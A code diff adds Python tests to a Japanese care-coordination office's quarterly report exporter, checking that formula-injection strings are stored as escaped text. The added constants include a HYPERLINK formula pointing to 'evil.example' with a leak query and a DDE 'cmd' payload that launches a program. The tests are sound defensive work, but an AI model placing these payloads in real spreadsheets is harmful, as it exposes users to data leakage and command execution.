@@ -4,6 +4,7 @@ import re
 import subprocess
 import time
 import zipfile
+from dataclasses import replace
 from datetime import date, datetime
 from io import BytesIO
 
@@ -340,3 +341,63 @@ def test_libreoffice_prints_the_demo_report_on_a4_with_its_japanese_text(demo_of
     assert "業務報告書" in text and "合計" in text
     assert "北区医療的ケア児等コーディネーター事業" in text
     assert re.search(r"\b1 ?/ ?\d", text)  # the page number in the footer
+
+
+# --- formulas: an attacker's text is shown, never run ---------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak","詳細")'
+# (A carriage return would come back as a line feed: XML normalises line ends.)
+HOSTILE = (HYPERLINK, "+SUM(1)", "-1+2", "@SUM(A1)", "\t=1+1", "  =cmd|' /C calc'!A0")
+
+
+def formula_cells(ws) -> list[str]:
+    return [cell.coordinate for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
+
+
+def all_values(ws) -> list:
+    return [cell.value for row in ws.iter_rows() for cell in row if cell.value is not None]
+
+
+def test_hostile_texts_anywhere_in_the_report_are_written_as_text_not_formulas():
+    report = small_report(
+        section_3_rows=tuple(
+            Row(("医療機関", f"機関{index}"), {"count": 1}, text, key=f"hostile-{index}")
+            for index, text in enumerate(HOSTILE)
+        )
+    )
+    meetings = EventTable(
+        "会議", ("会議参加", "会議名", "開催日", "方法・会場"), ((HOSTILE[1], HYPERLINK, "5月8日", "@x"),)
+    )
+    report = replace(
+        report,
+        office=HYPERLINK,
+        schedule="+81 3 0000",
+        event_sections=(EventSection(6, "ネットワーク構築", (meetings,)),),
+    )
+    ws = read(render(report))
+    # The report writes no formula of its own: its totals are numbers.
+    assert formula_cells(ws) == []
+    values = all_values(ws)
+    for text in (*HOSTILE, "@x", "+81 3 0000"):
+        assert "'" + text in values
+        assert text not in values
+
+
+def test_an_event_named_like_a_formula_is_shown_as_text_in_the_downloaded_report(demo_office, coordinator):
+    from coordination.events.models import EventKind
+    from coordination.events.services import event_create
+
+    event_create(
+        office=demo_office,
+        user=coordinator,
+        kind=EventKind.MEETING,
+        name=HYPERLINK,
+        held_on=date(2025, 5, 9),
+        method_venue="=1+1",
+        topic="@SUM(A1)",
+    )
+    ws = read(render(build_quarterly_report(demo_office, FiscalPeriod(2025, 1, 1))))
+    assert formula_cells(ws) == []
+    values = all_values(ws)
+    assert {"'" + HYPERLINK, "'=1+1"} <= set(values)
+    assert HYPERLINK not in values
